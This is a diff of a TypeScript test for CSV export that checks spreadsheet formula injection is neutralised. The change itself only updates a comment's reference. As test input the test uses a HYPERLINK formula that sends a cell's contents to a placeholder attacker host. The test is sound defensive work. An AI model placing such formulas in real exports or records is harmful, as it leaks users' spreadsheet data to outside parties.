@@ -70,7 +70,7 @@ describe.each(backends())('mds usage on $name', (backend) => {
   });
 
   it('the statement CSV neutralises text a spreadsheet would run, in the CLI as in the admin API', async () => {
-    // Formula injection (docs/decisions.md 84): an external id or a provider is the customer's text.
+    // Formula injection (docs/decisions.md 86): an external id or a provider is the customer's text.
     const link = '=HYPERLINK("http://evil.example/?"&A1,"click")';
     const account = await createAccount(h.store, { name: 'Formula', externalId: link });
     const grant = await createGrant(h.store, {
